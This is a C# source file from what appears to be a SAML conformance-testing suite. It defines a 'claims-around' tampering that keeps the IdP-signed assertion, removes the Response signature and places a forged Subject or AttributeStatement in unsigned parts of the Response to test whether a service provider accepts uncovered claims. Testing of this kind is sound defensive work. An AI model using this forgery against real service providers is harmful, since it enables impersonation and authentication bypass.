using System.Xml;
using Conformance.Saml.Forging;
using Conformance.Saml.Potency;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>Forged claims in no assertion at all, in the unsigned Response around a genuine one.</summary>
internal sealed class ClaimsAround(TamperingArguments arguments) : Tampering
{
    private const string Foreign = "urn:example:foreign";

    public static CatalogueEntry Entry { get; } = new(
        new TamperingDescription(
            "claims-around",
            "Leaves the signed assertion as it is and puts a forged Subject and AttributeStatement, without an assertion, into the unsigned "
            + "Response around it.",
            "The IdP's signature verifies over the untouched assertion; the forged values are not covered.",
            [
                new("at", "Where in the Response; in an Assertion of no namespace of SAML's, too.", ["extensions", "status-detail", "foreign-assertion", "end"], Required: true),
                Impersonation.Parameter,
            ]),
        arguments => new ClaimsAround(arguments));

    public override string Name => "claims-around";

    public override void AfterSigning(Workpiece work)
    {
        var target = Impersonation.Target(arguments, work.Context);
        var signed = SignedPlaces.Signed(work, "assertion")[0];
        var forged = Impersonation.Copy(signed, target, work);
        work.Document.CreateDocumentFragment().AppendChild(forged);
        if (Dom.Signature(work.Root) is { } broken)
        {
            work.Root.RemoveChild(broken);
        }

        var holder = Holder(work);
        var kept = target == ForgeryTarget.NameId ? "Subject" : "AttributeStatement";
        foreach (var claim in Dom.Children(forged).Where(child => child.LocalName == kept).ToList())
        {
            holder.AppendChild(Dom.Detach(claim));
        }

        work.Claim(new GenuineStands(signed.GetAttribute("ID")));
        work.Claim(new ForgedUncovered(Impersonation.Values(work.Context, target)));
    }

    private XmlElement Holder(Workpiece work)
    {
        switch (arguments.Required("at"))
        {
            case "extensions":
                return Holders.Extensions(work.Root);
            case "status-detail":
                return Holders.StatusDetail(work.Root);
            case "foreign-assertion":
                var foreign = work.Document.CreateElement("x", "Assertion", Foreign);
                Dom.SetNamespace(foreign, "x", Foreign);
                Holders.Extensions(work.Root).AppendChild(foreign);
                return foreign;
            default:
                return work.Root;
        }
    }
}
